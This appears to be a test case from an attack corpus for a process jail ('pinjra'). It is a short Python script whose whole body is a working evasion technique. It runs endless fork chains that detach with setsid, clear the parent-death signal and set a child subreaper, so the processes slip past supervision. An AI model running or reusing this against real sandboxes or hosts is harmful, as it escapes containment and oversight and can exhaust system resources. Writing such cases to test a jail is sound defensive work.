# attack: jail/processes-that-come-and-go
# oracle: runaway
# imports: os, signal, threading
# tools:
# source: own
# note: a chain of processes each of which lives a moment, with a session and a reaper of its own, to be missed by every look
import os
import signal
import threading
import time

from pinjra.jail.walls.libc import prctl


def chain():
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    prctl(1, 0)
    prctl(36, 1)
    while True:
        try:
            if os.fork():
                os._exit(0)
            os.setsid()
        except OSError:
            time.sleep(0.001)


for _ in range(4):
    if os.fork() == 0:
        chain()
threading.Thread(target=lambda: [os.fork() or chain() for _ in range(2)], daemon=True).start()
